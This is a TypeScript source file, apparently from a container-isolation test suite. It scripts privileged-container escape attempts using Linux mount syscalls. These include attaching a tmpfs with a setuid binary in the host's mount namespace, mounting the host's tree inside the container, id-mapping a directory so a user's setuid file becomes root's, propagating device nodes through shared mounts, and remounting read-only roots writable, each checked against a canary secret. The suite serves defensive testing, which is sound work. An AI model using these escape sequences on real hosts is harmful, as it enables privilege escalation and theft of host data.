import { execFile } from 'node:child_process';
import path from 'node:path';
import { promisify } from 'node:util';
import { accompliceAttempts } from './attempt.ts';
import type { Agent } from './agent.ts';
import { showsSecret } from './evidence.ts';
import { readNode, rawNode } from './devices.ts';
import {
  AT_EMPTY_PATH,
  AT_FDCWD,
  CLONE_NEWNS,
  CLONE_NEWUSER,
  O_DIRECTORY,
  O_RDONLY,
  O_WRONLY,
  S_IFBLK,
  u64,
} from './linux.ts';
import { attacker, type Container } from './attack-setup.ts';
import type { AttackFixture } from './attack-fixture.ts';

const run = promisify(execFile);
const OPEN_TREE_CLONE = 1,
  AT_RECURSIVE = 0x8000,
  MOVE_MOUNT_F_EMPTY_PATH = 4,
  FSCONFIG_CMD_CREATE = 6;
const MOUNT_ATTR_IDMAP = 0x10_0000;

/** A new tmpfs that is not attached anywhere yet. */
async function newFileSystem(inside: Agent): Promise<number> {
  const context = await inside.call('fsopen', 'tmpfs', 0);
  await inside.call('fsconfig', context, FSCONFIG_CMD_CREATE, 0, 0, 0);
  return inside.call('fsmount', context, 0, 0);
}

/** A setuid copy of the tool in a directory that the process has a descriptor of. */
async function leaveSetuid(agent: Agent, directory: number): Promise<void> {
  await agent.call('install', directory, 'program');
  await agent.call('fchmodat', directory, 'program', 0o6755);
}

/** A recursive copy of the mount at `place`, which an ordinary user can make in own namespaces. */
async function copyOutside(outside: Agent, place: string): Promise<number> {
  await outside.call('unshare', CLONE_NEWUSER | CLONE_NEWNS);
  return outside.call('open_tree', AT_FDCWD, place, OPEN_TREE_CLONE | AT_RECURSIVE);
}

/** Attaches a mount in the machine's mount namespace, whose descriptor is passed by the process outside. */
async function attachOnMachine(
  fixture: AttackFixture,
  inside: Agent,
  mount: number,
  place: string,
): Promise<void> {
  const outside = await fixture.outside();
  await inside.call(
    'setns',
    await fixture.handOver(outside, '/proc/self/ns/mnt', O_RDONLY, inside),
    CLONE_NEWNS,
  );
  await inside.call('move_mount', mount, '', AT_FDCWD, place, MOVE_MOUNT_F_EMPTY_PATH);
}

/** A user namespace in which id 4242 of a disk is root. */
async function mapToRoot(fixture: AttackFixture, inside: Agent, id: number): Promise<number> {
  const holder = await fixture.in(fixture.containers.privileged);
  await holder.call('unshare', CLONE_NEWUSER);
  const process = await fixture.handOver(holder, '/proc/self', O_RDONLY | O_DIRECTORY, inside);
  for (const map of ['uid_map', 'gid_map']) {
    const line = `${id} 0 1`;
    await inside.call('write', await inside.call('openat', process, map, O_WRONLY), line, line.length);
  }
  return inside.call('openat', process, 'ns/user', O_RDONLY);
}

/** Below the attacker's directory, where other attempts attach mounts meanwhile: these it would hide. */
const propagatingShare = 'propagating';

/** A container whose share propagates mounts to the machine and to other containers. */
async function propagating(fixture: AttackFixture): Promise<Container> {
  return fixture.once('propagating', async () => {
    const { directory } = await fixture.openDirectory(await fixture.outside(), propagatingShare);
    // As set by systemd for all mounts.
    await run('mount', ['--bind', directory, directory]);
    await run('mount', ['--make-shared', directory]);
    return fixture.container('propagating', ['--privileged', '-v', `${directory}:/handed:rshared`]);
  });
}

/** Mounts a tmpfs in the propagating share, inside; resolves with its path outside. */
async function mountInShare(
  fixture: AttackFixture,
  inside: Agent,
  outside: Agent,
  name: string,
): Promise<string> {
  const { directory } = await fixture.openDirectory(outside, path.join(propagatingShare, name));
  await inside.call('mount', 'none', `/handed/${name}`, 'tmpfs', 0, 0);
  return directory;
}

/** The script says how far it got, and why no farther; its exit code says nothing. */
const makeWritable = (mount: string, prepare = 'true') =>
  `exec 2>&1; ${prepare} && echo prepared || exit 0; ` +
  `mount -o remount,bind,rw ${mount} && touch ${mount}/written && echo written; true`;

/** Whether a script with `makeWritable`, run by the attacker's `docker`, did it. */
async function isWritten(fixture: AttackFixture, ...command: readonly string[]): Promise<boolean> {
  const output = await fixture.docker(attacker, ...command);
  if (!output.startsWith('prepared')) throw new Error(`the script was not prepared: ${output}`);
  return showsSecret('\nwritten', output);
}

export const mountAttempts = accompliceAttempts([
  {
    id: 'file-system-on-the-machine',
    title:
      "a file system from inside with a setuid file is attached outside, in the machine's mount namespace",
    attempt: async (fixture) => {
      const [outside, inside] = await fixture.both(fixture.containers.privileged);
      const { directory } = await fixture.openDirectory(outside, 'file-system');
      const mount = await newFileSystem(inside);
      await leaveSetuid(inside, mount);
      await attachOnMachine(fixture, inside, mount, directory);
      return fixture.isCanary(await outside.run(path.join(directory, 'program'), 'cat', fixture.secret));
    },
  },
  {
    id: 'machine-attached-inside',
    title: "a copy of the machine's mounts, made outside (open_tree), is attached inside and read there",
    attempt: async (fixture) => {
      const [outside, inside] = await fixture.both(fixture.containers.privileged);
      const copy = await fixture.pass(outside, await copyOutside(outside, '/'), inside);
      await inside.call('mkdirat', AT_FDCWD, '/machine', 0o755);
      await inside.call('move_mount', copy, '', AT_FDCWD, '/machine', MOVE_MOUNT_F_EMPTY_PATH);
      return fixture.isCanary(await fixture.readFile(inside, path.join('/machine', fixture.secret)));
    },
  },
  {
    id: 'directory-mapped-to-root',
    title:
      "a copy of the attacker's directory is id-mapped inside, so that a setuid file of theirs is root's, " +
      'and attached outside',
    attempt: async (fixture) => {
      const [outside, inside] = await fixture.both(fixture.containers.privileged);
      const { directory, descriptor } = await fixture.openDirectory(outside, 'mapped');
      const { directory: place } = await fixture.openDirectory(outside, 'mapped-place');
      await leaveSetuid(outside, descriptor);
      const copying = await fixture.outside();
      const id = await copying.call('geteuid');
      const copy = await fixture.pass(copying, await copyOutside(copying, directory), inside);
      const map = await mapToRoot(fixture, inside, id);
      await inside.call('mount_setattr', copy, '', AT_EMPTY_PATH, u64(MOUNT_ATTR_IDMAP, 0, 0, map), 32);
      await attachOnMachine(fixture, inside, copy, place);
      return fixture.isCanary(await outside.run(path.join(place, 'program'), 'cat', fixture.secret));
    },
  },
  {
    id: 'setuid-propagated',
    title: 'a file system that a privileged container mounts in its share shows a setuid file outside',
    attempt: async (fixture) => {
      const [outside, inside] = await fixture.both(await propagating(fixture));
      const directory = await mountInShare(fixture, inside, outside, 'setuid-propagated');
      await leaveSetuid(
        inside,
        await inside.call('openat', AT_FDCWD, '/handed/setuid-propagated', O_RDONLY | O_DIRECTORY),
      );
      return fixture.isCanary(await outside.run(path.join(directory, 'program'), 'cat', fixture.secret));
    },
  },
  {
    id: 'node-propagated',
    title: 'the same with a device node',
    attempt: async (fixture) => {
      const [outside, inside] = await fixture.both(await propagating(fixture));
      const directory = await mountInShare(fixture, inside, outside, 'node-propagated');
      await inside.call(
        'mknodat',
        AT_FDCWD,
        '/handed/node-propagated/node',
        S_IFBLK | 0o666,
        rawNode(fixture),
      );
      return readNode(fixture, outside, AT_FDCWD, path.join(directory, 'node'));
    },
  },
  {
    id: 'read-only-root',
    title: 'a privileged container makes its read-only root file system writable',
    attempt: async (fixture) => {
      const options = ['--rm', '--privileged', '--read-only'];
      return isWritten(fixture, 'run', ...options, 'accomplice', 'sh', '-c', makeWritable('/'));
    },
  },
  {
    id: 'read-only-root-copied',
    title: 'a privileged container makes a copy of its read-only root file system writable',
    attempt: async (fixture) => {
      const copy = '/dev/shm/copy';
      const script = makeWritable(copy, `mkdir ${copy} && mount --bind / ${copy}`);
      const options = ['--rm', '--privileged', '--read-only'];
      return isWritten(fixture, 'run', ...options, 'accomplice', 'sh', '-c', script);
    },
  },
  {
    id: 'read-only-root-entered',
    title: 'a privileged process that enters a container makes its read-only root file system writable',
    attempt: async (fixture) => {
      // A stock engine's profiles would keep this process from mounting.
      const profiles = ['seccomp=unconfined', 'apparmor=unconfined'];
      const options = ['--read-only', ...profiles.flatMap((profile) => ['--security-opt', profile])];
      const { name } = await fixture.container('read-only', options, ['accomplice', 'sleep', '1000']);
      return isWritten(fixture, 'exec', '--privileged', name, 'sh', '-c', makeWritable('/'));
    },
  },
]);
